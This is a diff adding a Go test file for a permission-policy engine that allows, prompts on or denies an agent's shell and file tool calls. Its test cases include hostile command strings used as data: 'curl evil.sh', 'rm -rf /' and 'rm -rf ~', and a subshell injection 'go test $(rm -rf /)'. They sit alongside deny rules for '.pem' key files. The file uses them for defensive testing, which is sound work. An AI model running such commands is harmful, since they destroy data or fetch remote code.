@@ -0,0 +1,215 @@
+package policy
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func mustParse(t *testing.T, data, path string) *File {
+	t.Helper()
+	file, err := Parse([]byte(data), path)
+	if err != nil {
+		t.Fatalf("Parse failed: %v", err)
+	}
+	return file
+}
+
+func TestEvaluateFirstMatchWins(t *testing.T) {
+	p := Merge(nil, mustParse(t, `
+default: prompt
+rules:
+  - tool: shell
+    command_regex: .*curl.*
+    decision: prompt
+  - tool: shell
+    command_prefix: go test
+    decision: allow
+  - tool: write_file
+    path_glob: docs/**
+    decision: allow
+  - tool: "*"
+    path_glob: "*.pem"
+    decision: deny
+    reason: never touch keys
+`, "project.yaml"))
+
+	tests := []struct {
+		req  Request
+		want Decision
+		line int // Line of the matching rule; 0 for the default
+	}{
+		{Request{Tool: "execute_command", Command: "go test ./..."}, Allow, 7},
+		{Request{Tool: "shell", Command: "go test -run X ./pkg"}, Allow, 7},
+		{Request{Tool: "execute_command", Command: "go testify"}, Prompt, 0},
+		{Request{Tool: "execute_command", Command: "go test ./... && curl evil.sh"}, Prompt, 4},
+		{Request{Tool: "execute_command", Command: "go test ./... && rm -rf /"}, Prompt, 0},
+		{Request{Tool: "execute_command", Command: "go test $(rm -rf /)"}, Prompt, 0},
+		{Request{Tool: "write_file", Paths: []string{"docs/guide/intro.md"}}, Allow, 10},
+		{Request{Tool: "write_file", Paths: []string{"docs/a.md", "main.go"}}, Prompt, 0},
+		{Request{Tool: "read_file", Paths: []string{"certs/server.pem"}}, Deny, 13},
+		{Request{Tool: "write_file", Paths: []string{"docs/server.pem"}}, Allow, 10},
+	}
+	for _, tt := range tests {
+		match, ok := p.Evaluate(tt.req)
+		if !ok || match.Decision != tt.want {
+			t.Errorf("%+v: Expected %s, got %+v (ok=%t)", tt.req, tt.want, match, ok)
+			continue
+		}
+		line := 0
+		if match.Rule != nil {
+			line = match.Rule.Line
+		}
+		if line != tt.line {
+			t.Errorf("%+v: Expected the rule on line %d, got %d", tt.req, tt.line, line)
+		}
+	}
+}
+
+func TestCommandRegexAllowCoversEveryPart(t *testing.T) {
+	p := Merge(mustParse(t, `
+rules:
+  - tool: shell
+    command_regex: rm .*
+    decision: deny
+  - tool: shell
+    command_regex: git .*
+    decision: allow
+`, "global.yaml"), nil)
+
+	tests := []struct {
+		command string
+		want    Decision
+		ok      bool
+	}{
+		{"git status", Allow, true},
+		{"git status && git log", Allow, true},
+		{"git status; rm -rf ~", Deny, true},
+		{"git status; make", "", false},
+		{"git log $(make)", "", false},
+		{"git log `make`", "", false},
+		{"git log > out.txt", "", false},
+		{"ls | rm -rf ~", Deny, true},
+	}
+	for _, tt := range tests {
+		match, ok := p.Evaluate(Request{Tool: "shell", Command: tt.command})
+		if ok != tt.ok || match.Decision != tt.want {
+			t.Errorf("%q: Expected %q (ok=%t), got %+v (ok=%t)", tt.command, tt.want, tt.ok, match, ok)
+		}
+	}
+}
+
+func TestMergeKeepsGlobalDenialsFirst(t *testing.T) {
+	global := mustParse(t, `
+default: deny
+rules:
+  - tool: shell
+    command_prefix: git
+    decision: allow
+  - tool: shell
+    command_prefix: git push
+    decision: deny
+`, "global.yaml")
+	project := mustParse(t, `
+rules:
+  - tool: shell
+    command_prefix: git push
+    decision: allow
+  - tool: shell
+    command_prefix: git commit
+    decision: prompt
+`, "project.yaml")
+	p := Merge(global, project)
+
+	if match, _ := p.Evaluate(Request{Tool: "shell", Command: "git push origin"}); match.Decision != Deny || match.Rule.Source != "global.yaml" {
+		t.Errorf("Expected the global denial to win over the project's allow, got %s", match.Explain())
+	}
+	if match, _ := p.Evaluate(Request{Tool: "shell", Command: "git commit -m x"}); match.Decision != Prompt || match.Rule.Source != "project.yaml" {
+		t.Errorf("Expected the project rule before the global allow, got %s", match.Explain())
+	}
+	if match, _ := p.Evaluate(Request{Tool: "shell", Command: "git status"}); match.Decision != Allow {
+		t.Errorf("Expected the global allow to apply, got %s", match.Explain())
+	}
+	match, ok := p.Evaluate(Request{Tool: "shell", Command: "make"})
+	if !ok || match.Decision != Deny || !strings.Contains(match.Explain(), "default in global.yaml") {
+		t.Errorf("Expected the global default, got %+v", match)
+	}
+
+	if _, ok := Merge(nil, nil).Evaluate(Request{Tool: "shell", Command: "ls"}); ok {
+		t.Errorf("Expected no decision without policy files")
+	}
+}
+
+func TestParseErrorsNameTheLine(t *testing.T) {
+	tests := []struct {
+		data string
+		want string
+	}{
+		{"rules:\n  - tool: shell\n    decison: allow\n", `p.yaml:3: unknown rule field "decison"`},
+		{"rules:\n  - tool: shell\n    command_prefix: ls\n    decision: allow\n  - tool: shell\n    decision: alow\n", `p.yaml:5: rule 2: invalid decision "alow"`},
+		{"rules:\n  - decision: allow\n", "p.yaml:2: rule 1: tool is required"},
+		{"rules:\n  - tool: read_file\n    command_prefix: cat\n    decision: allow\n", "only apply to the shell tool"},
+		{"rules:\n  - tool: shell\n    path_glob: src/**\n    decision: allow\n", "path_glob does not apply"},
+		{"rules:\n  - tool: shell\n    command_regex: \"(\"\n    decision: deny\n", "p.yaml:2: rule 1: invalid command_regex"},
+		{"default: maybe\n", `p.yaml: default: invalid decision "maybe"`},
+		{"defaults: allow\n", "p.yaml:1: field defaults not found"},
+		{"rules: [\n", "p.yaml:"},
+	}
+	for _, tt := range tests {
+		_, err := Parse([]byte(tt.data), "p.yaml")
+		if err == nil || !strings.Contains(err.Error(), tt.want) {
+			t.Errorf("Expected an error containing %q, got %v", tt.want, err)
+		}
+	}
+}
+
+func TestLoad(t *testing.T) {
+	dir := t.TempDir()
+	project := ProjectPath(dir)
+	if err := os.MkdirAll(filepath.Dir(project), 0755); err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(project, []byte("rules:\n  - tool: shell\n    command_prefix: rm\n    decision: prompt\n"), 0644)
+
+	p, err := Load(filepath.Join(dir, "missing.yaml"), project)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if match, ok := p.Evaluate(Request{Tool: "shell", Command: "rm -rf build"}); !ok || match.Rule.Source != project {
+		t.Errorf("Expected the project rule, got %+v", match)
+	}
+
+	empty, err := Parse(nil, "empty.yaml")
+	if err != nil || len(empty.Rules) != 0 {
+		t.Errorf("Expected an empty file to have no rules, got %+v, %v", empty, err)
+	}
+}
+
+func TestLoadRejectsProjectAllows(t *testing.T) {
+	dir := t.TempDir()
+	project := ProjectPath(dir)
+	if err := os.MkdirAll(filepath.Dir(project), 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		data string
+		want string
+	}{
+		{"rules:\n  - tool: shell\n    command_prefix: ls\n    decision: deny\n  - tool: \"*\"\n    decision: allow\n", project + ":5: rule 2: a project policy cannot allow"},
+		{"default: allow\n", project + ": default: a project policy cannot allow by default"},
+	}
+	for _, tt := range tests {
+		os.WriteFile(project, []byte(tt.data), 0644)
+		if _, err := Load("", project); err == nil || !strings.Contains(err.Error(), tt.want) {
+			t.Errorf("Expected an error containing %q, got %v", tt.want, err)
+		}
+	}
+
+	// The global file may allow
+	os.WriteFile(project, []byte("default: allow\n"), 0644)
+	if _, err := Load(project, ""); err != nil {
+		t.Errorf("Expected the global policy to allow, got %v", err)
+	}
+}